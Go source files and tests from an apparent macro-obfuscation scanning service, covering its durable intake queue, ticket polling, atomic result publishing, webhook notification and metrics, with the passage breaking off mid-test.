		func() float64 { return in.q.Stats().OldestAge.Seconds() })
	reg.GaugeFunc("intake_journal_segments", "Journal segment files on disk.",
		func() float64 { return float64(in.q.Stats().Segments) })
	reg.CounterFunc("intake_enqueued", "Submissions accepted into the intake queue.",
		func() int64 { return in.q.Stats().Enqueued })
	reg.CounterFunc("intake_acked", "Submissions fully processed and acknowledged.",
		func() int64 { return in.q.Stats().Acked })
	reg.CounterFunc("intake_redelivered", "Submissions redelivered after a lost or failed attempt.",
		func() int64 { return in.q.Stats().Redelivered })
	reg.CounterFunc("intake_dead_lettered", "Submissions dead-lettered after exhausting their delivery budget.",
		func() int64 { return in.q.Stats().DeadLettered })
	reg.CounterFunc("intake_journal_corrupt_records", "Journal records skipped during replay for framing or checksum damage.",
		func() int64 { return in.q.Stats().CorruptRecords })
	in.published = reg.Counter("intake_published", "Verdicts published to the results directory.")
	in.webhookFailures = reg.Counter("intake_webhook_failures", "Completion webhooks that could not be delivered.")
}

func (in *intake) resultPath(id uint64) string {
	return filepath.Join(in.resultsDir, strconv.FormatUint(id, 10)+".json")
}

// handleSubmit accepts one document into the durable queue and returns a
// ticket. The enqueue is fsynced before the 202, so an accepted
// submission survives any crash after the response.
func (in *intake) handleSubmit(w http.ResponseWriter, r *http.Request) {
	s := in.s
	if s.draining.Load() {
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": "draining"})
		return
	}
	name, data, err := s.readDocument(w, r)
	if err != nil {
		s.writeBodyError(w, err)
		return
	}
	if len(data) == 0 {
		s.metrics.Errors.Add("bad_request", 1)
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "empty document"})
		return
	}
	meta := jobMeta{
		Trace:     r.URL.Query().Get("trace") == "1",
		RequestID: requestID(r.Context()),
	}
	meta.Webhook = r.URL.Query().Get("webhook")
	if meta.Webhook == "" {
		meta.Webhook = r.Header.Get("X-Webhook-URL")
	}
	if meta.Webhook != "" {
		if !in.cfg.AllowWebhooks {
			s.metrics.Errors.Add("bad_request", 1)
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "webhooks are not enabled on this server"})
			return
		}
		u, err := url.Parse(meta.Webhook)
		if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
			s.metrics.Errors.Add("bad_request", 1)
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "invalid webhook URL"})
			return
		}
	}
	var metaBlob []byte
	if meta != (jobMeta{}) {
		metaBlob, _ = json.Marshal(meta)
	}
	// The journaled traceparent carries the submit request's own span, so
	// the worker's span tree stitches under this request — across a crash
	// and a redelivery, even in a different process.
	id, err := in.q.EnqueueTraced(name, metaBlob, data, traceContext(r.Context()).Traceparent())
	if err != nil {
		s.metrics.Errors.Add("intake", 1)
		writeJSON(w, http.StatusServiceUnavailable,
			map[string]string{"error": "intake unavailable: " + err.Error()})
		return
	}
	ticket := strconv.FormatUint(id, 10)
	writeJSON(w, http.StatusAccepted, SubmitResponse{
		Ticket: ticket,
		Status: "queued",
		Poll:   "/v1/tickets/" + ticket,
	})
}

// handleTicket polls one ticket: the published result once the job
// completed, a status body while it is queued, scanning or dead.
func (in *intake) handleTicket(w http.ResponseWriter, r *http.Request) {
	id, err := strconv.ParseUint(r.PathValue("id"), 10, 64)
	if err != nil {
		in.s.metrics.Errors.Add("bad_request", 1)
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "malformed ticket"})
		return
	}
	if in.serveResult(w, id) {
		return
	}
	ticket := strconv.FormatUint(id, 10)
	switch in.q.Status(id) {
	case queue.StatusPending:
		writeJSON(w, http.StatusOK, TicketStatus{Ticket: ticket, Status: "queued"})
	case queue.StatusInFlight:
		writeJSON(w, http.StatusOK, TicketStatus{Ticket: ticket, Status: "scanning"})
	case queue.StatusDead:
		st := TicketStatus{Ticket: ticket, Status: "dead"}
		for _, dj := range in.q.DeadLetters() {
			if dj.ID == id {
				st.Error, st.Attempts = dj.Reason, dj.Attempts
				break
			}
		}
		writeJSON(w, http.StatusOK, st)
	default:
		// Publish precedes ack, so a job that completed between the result
		// probe and the status check has a result file now — re-probe
		// before declaring the ticket unknown.
		if in.serveResult(w, id) {
			return
		}
		writeJSON(w, http.StatusNotFound, map[string]string{"error": "unknown ticket"})
	}
}

// serveResult writes the published result for id, if one exists.
func (in *intake) serveResult(w http.ResponseWriter, id uint64) bool {
	data, err := os.ReadFile(in.resultPath(id))
	if err != nil {
		return false
	}
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(data)
	return true
}

// handleDeadLetters lists dead-lettered submissions for operators.
func (in *intake) handleDeadLetters(w http.ResponseWriter, r *http.Request) {
	djs := in.q.DeadLetters()
	out := make([]DeadTicketJSON, len(djs))
	for i, dj := range djs {
		out[i] = DeadTicketJSON{
			Ticket:   strconv.FormatUint(dj.ID, 10),
			File:     dj.Name,
			Reason:   dj.Reason,
			Attempts: dj.Attempts,
			DeadAt:   dj.DeadAt,
		}
	}
	writeJSON(w, http.StatusOK, map[string]any{"dead": out})
}

// handleRedrive returns one dead-lettered submission to the ready queue
// with a fresh delivery budget.
func (in *intake) handleRedrive(w http.ResponseWriter, r *http.Request) {
	id, err := strconv.ParseUint(r.PathValue("id"), 10, 64)
	if err != nil {
		in.s.metrics.Errors.Add("bad_request", 1)
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "malformed ticket"})
		return
	}
	switch err := in.q.Redrive(id); {
	case errors.Is(err, queue.ErrNotFound):
		writeJSON(w, http.StatusNotFound, map[string]string{"error": "no such dead ticket"})
	case err != nil:
		in.s.metrics.Errors.Add("intake", 1)
		writeJSON(w, http.StatusInternalServerError, map[string]string{"error": err.Error()})
	default:
		writeJSON(w, http.StatusOK, TicketStatus{Ticket: strconv.FormatUint(id, 10), Status: "queued"})
	}
}

// worker drains the queue until the intake context is canceled. A job
// being processed when shutdown starts is finished (bounded by the scan
// timeout) rather than abandoned mid-flight.
func (in *intake) worker(ctx context.Context) {
	defer in.wg.Done()
	for {
		d, err := in.q.Receive(ctx)
		if err != nil {
			return // queue closed or shutdown
		}
		in.process(context.WithoutCancel(ctx), d)
	}
}

// process runs one delivered submission end to end: dedup against an
// already-published result, walk + scan, publish, webhook, ack.
func (in *intake) process(ctx context.Context, d *queue.Delivery) {
	s := in.s
	start := time.Now()
	ticket := strconv.FormatUint(d.ID, 10)

	// A redelivered job whose verdict already reached disk (crash or
	// stall between publish and ack) is complete: just ack it. This is
	// the at-least-once edge the publish-side dedup absorbs.
	if _, err := os.Stat(in.resultPath(d.ID)); err == nil {
		_ = d.Ack()
		return
	}

	var meta jobMeta
	if len(d.Meta) > 0 {
		_ = json.Unmarshal(d.Meta, &meta)
	}
	queueWait := start.Sub(d.EnqueuedAt)
	tr := telemetry.NewTracer(d.Name)
	// Rejoin the submission's trace from the journaled traceparent: the
	// worker span parents under the original submit request no matter
	// which process or delivery attempt runs the job.
	if tc, err := telemetry.ParseTraceparent(d.Trace); err == nil {
		tr.SetTraceContext(tc)
	}
	root := tr.Root()
	root.Annotate("ticket", ticket)
	root.Annotate("attempt", strconv.Itoa(d.Attempt))
	root.Annotate("queue_ms", fmt.Sprintf("%.3f", float64(queueWait.Nanoseconds())/1e6))
	if meta.RequestID != "" {
		root.Annotate("request_id", meta.RequestID)
	}

	det, _, _, release := s.pipeline()
	if det == nil {
		release()
		_ = d.Fail("no model loaded")
		return
	}
	scanCtx, cancel := context.WithTimeout(ctx, s.cfg.ScanTimeout)
	if meta.Trace {
		scanCtx = telemetry.ContextWithTracer(scanCtx, tr)
	}
	sp := root.Child("scan")
	var docs []scan.TreeDoc
	var degraded bool
	var werr error
	panicked := func() (p any) {
		// Second panic net around the whole tree walk: ScanOneCtx isolates
		// pipeline panics per document, this catches the walker itself.
		defer func() { p = recover() }()
		docs, degraded, werr = scan.ScanTree(scanCtx, det, d.Data)
		return nil
	}()
	cancel()
	release()
	sp.SetBytes(int64(len(d.Data)))
	sp.SetError(werr, hostile.Classify(werr))
	sp.End()

	if panicked != nil {
		// Deterministic on these bytes — retrying would panic again.
		s.metrics.Errors.Add("panic", 1)
		_ = d.Kill(fmt.Sprintf("panic: %v", panicked))
		return
	}

	res := &TicketResult{
		Ticket:    ticket,
		File:      d.Name,
		Attempt:   d.Attempt,
		QueueMS:   float64(queueWait.Nanoseconds()) / 1e6,
		RequestID: meta.RequestID,
		TraceID:   tr.TraceID,
	}
	if werr != nil {
		class := errorClass(werr)
		switch {
		case errors.Is(werr, core.ErrNotTrained):
			// Transient server fault: a model reload can fix it.
			_ = d.Fail("model not trained")
			return
		case class == "deadline":
			// Possibly host load rather than the document; bounded retries
			// settle it, then the dead-letter state holds the evidence.
			s.metrics.Errors.Add(class, 1)
			_ = d.Fail("scan deadline exceeded")
			return
		}
		// A typed document fault is a verdict (the sync path's 422
		// family): publish it and resolve the ticket.
		s.metrics.Errors.Add(class, 1)
		if hostile.ExhaustsBudget(werr) {
			s.metrics.Quarantined.Add(1)
			if name := hostile.LimitName(werr); name != "" {
				s.metrics.LimitHits.Add(name, 1)
			}
		}
		res.Status = "failed"
		res.Error = werr.Error()
		res.ErrorClass = class
	} else {
		res.Status = "done"
		res.Degraded = degraded
		for _, td := range docs {
			dr := ScanResponse{File: d.Name}
			if td.Path != "" {
				dr.File = td.Path
			}
			// Intake outcomes carry no per-request stage timings, so record
			// them like cache hits (verdict and error counters move, stage
			// histograms do not) and drop the cache marker afterwards.
			s.recordOutcome(&dr, scanOutcome{report: td.Report, err: td.Err}, true)
			dr.Cached = false
			if dr.Report != nil {
				dr.Report.ContainerPath = td.Path
			}
			res.Docs = append(res.Docs, dr)
		}
	}
	tr.Finish()
	s.recent.Add(tr.Trace())
	if meta.Trace {
		res.Trace = tr.Trace()
	}
	res.ElapsedMS = float64(time.Since(start).Nanoseconds()) / 1e6

	pubStart := time.Now()
	first, err := in.publish(d.ID, res)
	if err != nil {
		// Results volume fault: worth retrying, then dead-lettering.
		s.metrics.Errors.Add("intake", 1)
		_ = d.Fail("publish: " + err.Error())
		return
	}
	if first {
		in.published.Add(1)
		if meta.Webhook != "" {
			in.deliverWebhook(meta, ticket, d.ID, tr.Context().Traceparent())
		}
	}
	_ = d.Ack()
	s.log.Info("intake processed",
		"ticket", ticket,
		"trace_id", tr.TraceID,
		"file", d.Name,
		"status", res.Status,
		"docs", len(res.Docs),
		"degraded", res.Degraded,
		"attempt", d.Attempt,
		"first_publish", first,
		"queue_ms", res.QueueMS,
		"publish_ms", float64(time.Since(pubStart).Nanoseconds())/1e6,
		"elapsed_ms", res.ElapsedMS)
}

// publish writes the result file atomically, exactly once per ticket: the
// body lands in a temp file first, then os.Link — which fails when the
// target exists — installs it. A redelivered job racing the original
// therefore loses the link, publishes nothing, and skips the webhook, so
// a verdict can never be emitted twice (first reports whether this call
// won).
func (in *intake) publish(id uint64, res *TicketResult) (first bool, err error) {
	body, err := json.Marshal(res)
	if err != nil {
		return false, err
	}
	body = append(body, '\n')
	tmp, err := os.CreateTemp(in.resultsDir, fmt.Sprintf(".tmp-%d-*", id))
	if err != nil {
		return false, err
	}
	defer os.Remove(tmp.Name())
	if _, err := tmp.Write(body); err != nil {
		tmp.Close()
		return false, err
	}
	if err := tmp.Sync(); err != nil {
		tmp.Close()
		return false, err
	}
	if err := tmp.Close(); err != nil {
		return false, err
	}
	if err := os.Link(tmp.Name(), in.resultPath(id)); err != nil {
		if errors.Is(err, fs.ErrExist) {
			return false, nil
		}
		return false, err
	}
	return true, nil
}

// deliverWebhook POSTs the published result to the submission's webhook.
// Best-effort, single attempt by the publish winner: the result file is
// the durable record, the webhook is a notification. The delivery carries
// the submission's request ID and the worker span's traceparent, so the
// receiver joins the same distributed trace as the original submit.
func (in *intake) deliverWebhook(meta jobMeta, ticket string, id uint64, traceparent string) {
	body, err := os.ReadFile(in.resultPath(id))
	if err != nil {
		in.webhookFailures.Add(1)
		return
	}
	req, err := http.NewRequest(http.MethodPost, meta.Webhook, bytes.NewReader(body))
	if err != nil {
		in.webhookFailures.Add(1)
		return
	}
	req.Header.Set("Content-Type", "application/json; charset=utf-8")
	req.Header.Set("X-Ticket", ticket)
	if meta.RequestID != "" {
		req.Header.Set("X-Request-ID", meta.RequestID)
	}
	if traceparent != "" {
		req.Header.Set("traceparent", traceparent)
	}
	resp, err := in.client.Do(req)
	if resp != nil {
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	if err != nil || resp.StatusCode >= 300 {
		in.webhookFailures.Add(1)
		in.s.log.Warn("intake webhook delivery failed",
			"ticket", ticket, "webhook", meta.Webhook, "error", fmt.Sprint(err))
	}
}
