// Metrics for the scan daemon, built on the shared telemetry registry so
// every counter is safe for concurrent writes from request handlers and
// renders as both JSON and Prometheus text exposition. Nothing here
// registers in a global namespace: each Server owns its own registry, so
// tests can run many servers in one process.
package server

import (
	"net/http"
	"time"

	"repro/internal/telemetry"
)

// Metrics is one server's observability tree, a facade over a
// telemetry.Registry. GET /metrics renders the registry as JSON by
// default and as Prometheus text exposition with ?format=prometheus.
type Metrics struct {
	reg *telemetry.Registry

	// Requests counts HTTP requests by endpoint pattern.
	Requests *telemetry.LabeledCounter
	// Responses counts HTTP responses by status class ("2xx".."5xx").
	Responses *telemetry.LabeledCounter
	// InFlight is the number of scan requests currently holding a slot.
	InFlight *telemetry.Gauge
	// QueueDepth is the number of requests waiting for a slot.
	QueueDepth *telemetry.Gauge

	// Scans counts documents scanned (batch items count individually).
	Scans *telemetry.Counter
	// Macros counts significant macros classified.
	Macros *telemetry.Counter
	// MacrosSkipped counts macros below the significance threshold.
	MacrosSkipped *telemetry.Counter
	// Verdicts counts file-level outcomes: "obfuscated", "clean",
	// "no_macros".
	Verdicts *telemetry.LabeledCounter
	// Errors counts failures by class: "parse", "panic", "timeout",
	// "oversize", "busy", "bad_request", "internal", plus the hostile
	// taxonomy classes ("truncated", "malformed", "bomb", "limit",
	// "cycle", "deadline").
	Errors *telemetry.LabeledCounter
	// Degraded counts documents scanned partially: corruption or resource
	// limits cost some streams but surviving macros were still classified.
	Degraded *telemetry.Counter
	// Quarantined counts documents whose scan failure exhausted the
	// resource budget (decompression bombs, deadline overruns) — inputs
	// that warrant isolation, not retries.
	Quarantined *telemetry.Counter
	// LimitHits counts budget-limit breaches by limit name
	// ("decompressed_bytes", "deadline", ...), across both degraded and
	// quarantined documents.
	LimitHits *telemetry.LabeledCounter
	// Reloads counts successful model hot-reloads.
	Reloads *telemetry.Counter

	// Per-stage pipeline latency (extract → featurize → classify), the
	// time requests spend waiting for an admission slot, and whole-request
	// latency for the scan endpoints. All in seconds.
	StageExtract   *telemetry.Histogram
	StageFeaturize *telemetry.Histogram
	StageClassify  *telemetry.Histogram
	QueueWait      *telemetry.Histogram
	RequestLatency *telemetry.Histogram

	// Micro-batching instruments, populated only when a classify window is
	// configured: rows per coalesced forest call (a value histogram, not a
	// latency one) and how long each batch leader held the window open.
	ClassifyBatchSize *telemetry.Histogram
	ClassifyBatchWait *telemetry.Histogram

	// MacroScores is the production classifier-score distribution (a value
	// histogram over [0,1]) — the raw material the drift monitor compares
	// against the model's train-time baselines.
	MacroScores *telemetry.Histogram

	start time.Time
}

// NewMetrics builds an initialized, unregistered metric tree.
func NewMetrics() *Metrics {
	r := telemetry.NewRegistry()
	m := &Metrics{reg: r, start: time.Now()}
	r.GaugeFunc("uptime_seconds", "Seconds since the server started.",
		func() float64 { return time.Since(m.start).Seconds() })
	m.Requests = r.LabeledCounter("requests", "HTTP requests by endpoint.", "endpoint")
	m.Responses = r.LabeledCounter("responses", "HTTP responses by status class.", "class")
	m.InFlight = r.Gauge("inflight", "Scan requests currently holding a slot.")
	m.QueueDepth = r.Gauge("queue_depth", "Requests waiting for an admission slot.")
	m.Scans = r.Counter("scans", "Documents scanned.")
	m.Macros = r.Counter("macros", "Significant macros classified.")
	m.MacrosSkipped = r.Counter("macros_skipped", "Macros below the significance threshold.")
	m.Verdicts = r.LabeledCounter("verdicts", "File-level scan outcomes.", "verdict")
	m.Errors = r.LabeledCounter("errors", "Scan and request failures by class.", "class")
	m.Degraded = r.Counter("degraded", "Documents scanned partially.")
	m.Quarantined = r.Counter("quarantined", "Documents whose failure exhausted the resource budget.")
	m.LimitHits = r.LabeledCounter("limit_hits", "Budget-limit breaches by limit name.", "limit")
	m.Reloads = r.Counter("model_reloads", "Successful model hot-reloads.")
	m.StageExtract = r.Histogram("stage_extract_seconds", "Extraction stage latency.", nil)
	m.StageFeaturize = r.Histogram("stage_featurize_seconds", "Featurization stage latency.", nil)
	m.StageClassify = r.Histogram("stage_classify_seconds", "Classification stage latency.", nil)
	m.QueueWait = r.Histogram("queue_wait_seconds", "Time requests wait for an admission slot.", nil)
	m.RequestLatency = r.Histogram("request_seconds", "Whole-request latency for scan endpoints.", nil)
	m.ClassifyBatchSize = r.Histogram("classify_batch_size",
		"Feature rows per coalesced classify call.",
		[]float64{1, 2, 4, 8, 16, 32, 64, 128, 256})
	m.ClassifyBatchWait = r.Histogram("classify_batch_wait_seconds",
		"Time a classify batch leader held the coalescing window open.", nil)
	m.MacroScores = r.Histogram("macro_score",
		"Classifier decision scores of scanned macros.",
		[]float64{0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 1})
	r.GaugeFunc("scan_files_per_sec", "Documents scanned per second since start.",
		func() float64 { return rateSince(m.Scans.Value(), m.start) })
	r.GaugeFunc("scan_macros_per_sec", "Macros classified per second since start.",
		func() float64 { return rateSince(m.Macros.Value(), m.start) })
	r.RegisterGoRuntime()
	return m
}

func rateSince(n int64, start time.Time) float64 {
	elapsed := time.Since(start).Seconds()
	if elapsed <= 0 {
		return 0
	}
	return float64(n) / elapsed
}

// Registry exposes the underlying telemetry registry so callers can
// attach additional instruments (scan-engine gauges, build info).
func (m *Metrics) Registry() *telemetry.Registry { return m.reg }

// ServeHTTP renders the metric tree: Prometheus text exposition when the
// request asks for ?format=prometheus, JSON otherwise.
func (m *Metrics) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Query().Get("format") == "prometheus" {
		w.Header().Set("Content-Type", telemetry.ExpositionContentType)
		_ = m.reg.WritePrometheus(w)
		return
	}
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	_ = m.reg.WriteJSON(w)
}

// observeStatus records a response status code by class.
func (m *Metrics) observeStatus(code int) {
	m.Responses.Add(statusClass(code), 1)
}

func statusClass(code int) string {
	switch code / 100 {
	case 1:
		return "1xx"
	case 2:
		return "2xx"
	case 3:
		return "3xx"
	case 4:
		return "4xx"
	default:
		return "5xx"
	}
}
