// Metrics for the scan daemon, built on expvar types so every counter is
// safe for concurrent writes from request handlers and renders itself as
// JSON. Nothing here registers in the global expvar namespace: each Server
// owns its own metric tree, so tests can run many servers in one process.
package server

import (
	"expvar"
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// histBoundsMS are the histogram bucket upper bounds in milliseconds
// (cumulative "le" semantics, Prometheus-style), spanning sub-millisecond
// classifier inference up to multi-second worst-case documents. The last
// bucket is +Inf.
var histBoundsMS = [...]float64{0.1, 0.25, 0.5, 1, 2.5, 5, 10, 25, 50, 100, 250, 500, 1000, 2500, 5000}

// Histogram is a fixed-bucket latency histogram safe for concurrent use.
// It implements expvar.Var, rendering as JSON with count, sum and
// cumulative bucket counts.
type Histogram struct {
	count   atomic.Int64
	sumNS   atomic.Int64
	buckets [len(histBoundsMS) + 1]atomic.Int64
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	h.count.Add(1)
	h.sumNS.Add(d.Nanoseconds())
	ms := float64(d.Nanoseconds()) / 1e6
	for i, bound := range histBoundsMS {
		if ms <= bound {
			h.buckets[i].Add(1)
			return
		}
	}
	h.buckets[len(histBoundsMS)].Add(1)
}

// Count reports how many observations have been recorded.
func (h *Histogram) Count() int64 { return h.count.Load() }

// String renders the histogram as a JSON object (expvar.Var contract).
// Bucket counts are emitted cumulatively under "le_<bound>ms" keys.
func (h *Histogram) String() string {
	var b strings.Builder
	count := h.count.Load()
	sumMS := float64(h.sumNS.Load()) / 1e6
	avg := 0.0
	if count > 0 {
		avg = sumMS / float64(count)
	}
	fmt.Fprintf(&b, `{"count": %d, "sum_ms": %.3f, "avg_ms": %.3f, "buckets": {`, count, sumMS, avg)
	cum := int64(0)
	for i, bound := range histBoundsMS {
		cum += h.buckets[i].Load()
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, `"le_%gms": %d`, bound, cum)
	}
	cum += h.buckets[len(histBoundsMS)].Load()
	fmt.Fprintf(&b, `, "le_inf": %d}}`, cum)
	return b.String()
}

// Metrics is one server's observability tree. All fields are updated with
// atomic operations; the tree renders as a single JSON document at
// /metrics via the embedded expvar.Map.
type Metrics struct {
	root expvar.Map

	// Requests counts HTTP requests by endpoint pattern.
	Requests expvar.Map
	// Responses counts HTTP responses by status class ("2xx".."5xx").
	Responses expvar.Map
	// InFlight is the number of scan requests currently holding a slot.
	InFlight expvar.Int

	// Scans counts documents scanned (batch items count individually).
	Scans expvar.Int
	// Macros counts significant macros classified.
	Macros expvar.Int
	// MacrosSkipped counts macros below the significance threshold.
	MacrosSkipped expvar.Int
	// Verdicts counts file-level outcomes: "obfuscated", "clean",
	// "no_macros".
	Verdicts expvar.Map
	// Errors counts failures by class: "parse", "panic", "timeout",
	// "oversize", "busy", "bad_request", "internal", plus the hostile
	// taxonomy classes ("truncated", "malformed", "bomb", "limit",
	// "cycle", "deadline").
	Errors expvar.Map
	// Degraded counts documents scanned partially: corruption or resource
	// limits cost some streams but surviving macros were still classified.
	Degraded expvar.Int
	// Quarantined counts documents whose scan failure exhausted the
	// resource budget (decompression bombs, deadline overruns) — inputs
	// that warrant isolation, not retries.
	Quarantined expvar.Int
	// LimitHits counts budget-limit breaches by limit name
	// ("decompressed_bytes", "deadline", ...), across both degraded and
	// quarantined documents.
	LimitHits expvar.Map
	// Reloads counts successful model hot-reloads.
	Reloads expvar.Int

	// Per-stage pipeline latency (extract → featurize → classify) plus
	// whole-request latency for the scan endpoints.
	StageExtract   Histogram
	StageFeaturize Histogram
	StageClassify  Histogram
	RequestLatency Histogram

	start time.Time
}

// NewMetrics builds an initialized, unregistered metric tree.
func NewMetrics() *Metrics {
	m := &Metrics{start: time.Now()}
	m.Requests.Init()
	m.Responses.Init()
	m.Verdicts.Init()
	m.Errors.Init()
	m.LimitHits.Init()

	m.root.Init()
	m.root.Set("uptime_seconds", expvar.Func(func() any {
		return time.Since(m.start).Seconds()
	}))
	m.root.Set("requests", &m.Requests)
	m.root.Set("responses", &m.Responses)
	m.root.Set("inflight", &m.InFlight)
	m.root.Set("scans", &m.Scans)
	m.root.Set("macros", &m.Macros)
	m.root.Set("macros_skipped", &m.MacrosSkipped)
	m.root.Set("verdicts", &m.Verdicts)
	m.root.Set("errors", &m.Errors)
	m.root.Set("degraded", &m.Degraded)
	m.root.Set("quarantined", &m.Quarantined)
	m.root.Set("limit_hits", &m.LimitHits)
	m.root.Set("model_reloads", &m.Reloads)

	stages := new(expvar.Map).Init()
	stages.Set("extract", &m.StageExtract)
	stages.Set("featurize", &m.StageFeaturize)
	stages.Set("classify", &m.StageClassify)
	m.root.Set("stage_latency", stages)
	m.root.Set("request_latency", &m.RequestLatency)
	return m
}

// ServeHTTP renders the whole metric tree as JSON.
func (m *Metrics) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	fmt.Fprintln(w, m.root.String())
}

// observeStatus records a response status code by class.
func (m *Metrics) observeStatus(code int) {
	m.Responses.Add(fmt.Sprintf("%dxx", code/100), 1)
}
