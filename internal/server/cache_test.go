package server

import (
	"encoding/json"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// metricsTree fetches /metrics and decodes the flat JSON tree.
func metricsTree(t *testing.T, url string) map[string]json.RawMessage {
	t.Helper()
	resp, err := http.Get(url + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	tree := map[string]json.RawMessage{}
	if err := json.Unmarshal(body, &tree); err != nil {
		t.Fatalf("metrics not valid JSON: %v\n%s", err, body)
	}
	return tree
}

func metricInt(t *testing.T, tree map[string]json.RawMessage, name string) int64 {
	t.Helper()
	raw, ok := tree[name]
	if !ok {
		t.Fatalf("metric %q missing from /metrics", name)
	}
	var v int64
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("metric %q = %s, not an integer", name, raw)
	}
	return v
}

// TestScanCacheHit asserts a repeated document is served from the document
// cache — marked in the response, skipping stage timings — and that the
// cache counters flow through /metrics and survive a model reload
// monotonically while the caches themselves are replaced.
func TestScanCacheHit(t *testing.T) {
	fixture(t) // populate testFixture.modelPath before reading it
	cfg := quietConfig()
	cfg.ModelPath = testFixture.modelPath
	srv, ts := newTestServer(t, cfg)

	resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("first scan status = %d, want 200", resp.StatusCode)
	}
	if sr.Cached {
		t.Fatal("first scan of fresh bytes reported cached")
	}
	if sr.Stages == nil {
		t.Error("uncached scan should report stage timings")
	}

	resp, sr = postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("repeat scan status = %d, want 200", resp.StatusCode)
	}
	if !sr.Cached {
		t.Fatal("repeat scan of identical bytes not served from cache")
	}
	if sr.Stages != nil {
		t.Error("cached scan should omit stage timings")
	}
	if sr.Report == nil || len(sr.Report.Macros) == 0 {
		t.Fatalf("cached scan lost the report: %+v", sr)
	}

	tree := metricsTree(t, ts.URL)
	hits := metricInt(t, tree, "cache_hits")
	if hits == 0 {
		t.Error("cache_hits is zero after a cached scan")
	}
	if metricInt(t, tree, "cache_misses") == 0 {
		t.Error("cache_misses is zero after a cold scan")
	}
	if metricInt(t, tree, "macro_cache_misses") == 0 {
		t.Error("macro_cache_misses is zero after a cold scan")
	}

	// Reloading the model must swap in fresh caches (the next scan is a
	// miss again) while the exported counters stay monotonic.
	if err := srv.Reload(); err != nil {
		t.Fatal(err)
	}
	_, sr = postScan(t, ts.URL, testFixture.macroDoc)
	if sr.Cached {
		t.Error("scan after reload served from a stale cache")
	}
	tree = metricsTree(t, ts.URL)
	if got := metricInt(t, tree, "cache_hits"); got < hits {
		t.Errorf("cache_hits went backwards across reload: %d -> %d", hits, got)
	}
}

// TestScanCacheDisabled asserts negative CacheEntries turns the whole
// machinery off: no cached responses, no collapsing, zeroed cache metrics.
func TestScanCacheDisabled(t *testing.T) {
	cfg := quietConfig()
	cfg.CacheEntries = -1
	_, ts := newTestServer(t, cfg)

	for i := 0; i < 2; i++ {
		resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d status = %d, want 200", i, resp.StatusCode)
		}
		if sr.Cached {
			t.Fatalf("scan %d reported cached with caching disabled", i)
		}
	}
	tree := metricsTree(t, ts.URL)
	if metricInt(t, tree, "cache_hits") != 0 || metricInt(t, tree, "cache_misses") != 0 {
		t.Error("disabled cache reported activity")
	}
}

// TestScanSingleflightCollapse holds one scan in the pipeline gate and
// posts a second identical document: the follower must collapse into the
// leader's run (pipeline executed once, follower response marked cached).
func TestScanSingleflightCollapse(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	var pipelineRuns atomic.Int64
	entered := make(chan struct{}, 2)
	release := make(chan struct{})
	srv.scanGate = func() {
		pipelineRuns.Add(1)
		entered <- struct{}{}
		<-release
	}

	var wg sync.WaitGroup
	cached := make([]bool, 2)
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
			if resp.StatusCode != http.StatusOK {
				t.Errorf("request %d status = %d", i, resp.StatusCode)
			}
			cached[i] = sr.Cached
		}(i)
	}
	// Exactly one request reaches the gate; give the other time to park
	// in the flight group behind it before letting the leader finish.
	<-entered
	time.Sleep(50 * time.Millisecond)
	close(release)
	wg.Wait()

	if got := pipelineRuns.Load(); got != 1 {
		t.Errorf("pipeline ran %d times for 2 identical concurrent requests, want 1", got)
	}
	if cached[0] == cached[1] {
		t.Errorf("want exactly one collapsed (cached) response, got %v", cached)
	}
}
