package server

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
)

// TestModelEndpoint checks GET /v1/model reports the loaded model's full
// identity: SHA-256, feature-set name and cache identity, and the channel
// layout — everything the fleet gateway's skew detection consumes.
func TestModelEndpoint(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	defer ts.Close()

	resp, err := http.Get(ts.URL + "/v1/model")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /v1/model = %d, want 200", resp.StatusCode)
	}
	var mr ModelResponse
	if err := json.NewDecoder(resp.Body).Decode(&mr); err != nil {
		t.Fatal(err)
	}
	det := srv.detector()
	if mr.ModelSHA256 == "" || len(mr.ModelSHA256) != 64 {
		t.Errorf("model_sha256 = %q, want 64 hex chars", mr.ModelSHA256)
	}
	if mr.ModelSHA256 != det.ModelSHA() {
		t.Errorf("model_sha256 = %q, detector reports %q", mr.ModelSHA256, det.ModelSHA())
	}
	if mr.FeatureSet != det.FeatureSet().String() {
		t.Errorf("feature_set = %q, want %q", mr.FeatureSet, det.FeatureSet().String())
	}
	if mr.FeatureSetID != det.FeatureSetID() {
		t.Errorf("feature_set_id = %q, want %q", mr.FeatureSetID, det.FeatureSetID())
	}
